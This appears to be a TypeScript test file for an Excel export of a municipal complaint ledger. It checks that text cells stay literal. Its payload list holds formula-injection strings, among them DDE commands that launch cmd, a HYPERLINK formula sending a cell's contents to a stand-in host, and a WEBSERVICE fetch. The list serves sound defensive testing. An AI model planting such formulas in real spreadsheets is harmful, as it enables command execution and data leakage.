import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Archive } from '../../../libs/intake/reading/workbook/archive.js';
import { recordsOf } from '../../../libs/intake/table.js';
import { ledgerBook, type BookLine } from './ledger-book.js';

/** What somebody may write so that a spreadsheet reckons, asks another program or fetches something. */
const payloads = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)', `'=1+1`, '"=1+1"', '";=1+1;"', ' =1+1',
  `=cmd|'/C calc'!A0`, `+DDE("cmd";"/C calc";"x")`, '=HYPERLINK("http://x.example/?"&A1,"看")', '=WEBSERVICE("http://x.example")', '</t></is></c><c><f>1+1</f></c>', '_x003D_1+1',
];

/** Every column that holds words, by the field that it is made from. */
const texts = {
  number: '台账号', label: '状态', gradeLabel: '等级', sourceLabel: '来源', address: '点位', subdistrict: '街道', respondent: '被投诉对象',
  unitName: '责任单位', personName: '责任人', owed: '现应办理', owedBy: '应办者',
} as const satisfies Partial<Record<keyof BookLine, string>>;

const line: BookLine = {
  id: 'c0000000-0000-4000-8000-000000000001', number: '台账〔2026〕1号', state: 'assigned', label: '已交办', version: 3, enteredAt: '2026-09-18T02:00:00.000Z', source: 'repeat', sourceLabel: '反复投诉',
  grade: 'general', gradeLabel: '一般', nuisances: ['noise-equipment'], address: '成都道 88 号', subdistrict: '青梧街道', respondent: '某酒店', complaints: 4, calmDays: 39, lastComplaintAt: '2026-09-17T02:00:00.000Z',
  unit: 'environment', unitName: '生态环境局', personName: '责任人甲', reached: 2, milestones: 4, round: 1, step: 1, steps: 3, starred: false, interim: false, nextDate: null, openOrders: 0, revocations: 1,
  clock: 'finish', owed: '整改期限', owedBy: '生态环境局', dueAt: '2026-10-19T09:00:00.000Z', overdue: false, causes: ['people', 'institution'], planned: 'by-date', signedOffAt: '2026-09-30T02:00:00.000Z',
};

type Row = readonly string[];

describe('The workbook of the ledger', () => {
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'ledger-book-'));
  });
  afterAll(() => rm(folder, { recursive: true }));

  it.each(payloads)('shows %j as it was written, in every column of words, and holds no formula and no link', async (payload) => {
    const hostile: BookLine = { ...line, ...Object.fromEntries(Object.keys(texts).map((field) => [field, payload])), nuisances: [payload] };
    const { cells, sheet } = await opened([hostile]);
    const shown = payload.replaceAll('\r', '\n');
    for (const head of [...Object.values(texts), '扰民类型']) expect([head, cells(head)]).toEqual([head, [shown]]);
    expect(sheet).not.toMatch(/<(f|hyperlink)\b/);
  });

  it('names the words of the root cause, the way and the milestones of the plan, the calm days, and when it was signed off and how often that was revoked', async () => {
    const { cells } = await opened([line, { ...line, causes: [], planned: null, milestones: 0, reached: 0, calmDays: 0, signedOffAt: null, revocations: 0 }]);
    expect(['成因', '整改方式', '节点完成', '无新投诉天数', '销号时间', '销号被撤销次数'].map(cells)).toEqual([
      ['人、制', ''], ['限期整改', ''], ['2/4', '0/0'], ['39', '0'], ['2026-09-30 10:00', ''], ['1', '0'],
    ]);
  });

  it('says in its last row that there are more problems than it lists, and says nothing where it lists all', async () => {
    expect((await opened([line, line], true)).rows.at(-1)?.[0]).toBe('本表只列出前 2 个问题，其余未列出；请按状态、单位等条件分批导出。');
    expect((await opened([line, line])).rows.at(-1)?.[0]).toBe(line.number);
  });

  /** A workbook as its readers find it: its rows below the head, the cells of a column, and the sheet itself. */
  async function opened(lines: readonly BookLine[], isCut = false): Promise<{ rows: Row[]; sheet: string; cells(named: string): (string | undefined)[] }> {
    const bytes = await ledgerBook(lines, 'Asia/Shanghai', 'zh', isCut);
    const file = join(folder, 'ledger.xlsx');
    await writeFile(file, bytes);
    const [head = [], ...rows]: Row[] = (await all(recordsOf(file))).map(({ cells }) => cells);
    const archive = await Archive.open(bytes);
    const sheet = Buffer.concat(await all(archive.bytesOf('xl/worksheets/sheet1.xml'))).toString();
    archive.close();
    expect(sheet).toContain('<sheetData>');
    return { rows, sheet, cells: (named) => rows.map((cells) => cells[head.indexOf(named)]) };
  }
});

async function all<T>(pieces: AsyncIterable<T>): Promise<T[]> {
  const gathered: T[] = [];
  for await (const piece of pieces) gathered.push(piece);
  return gathered;
}
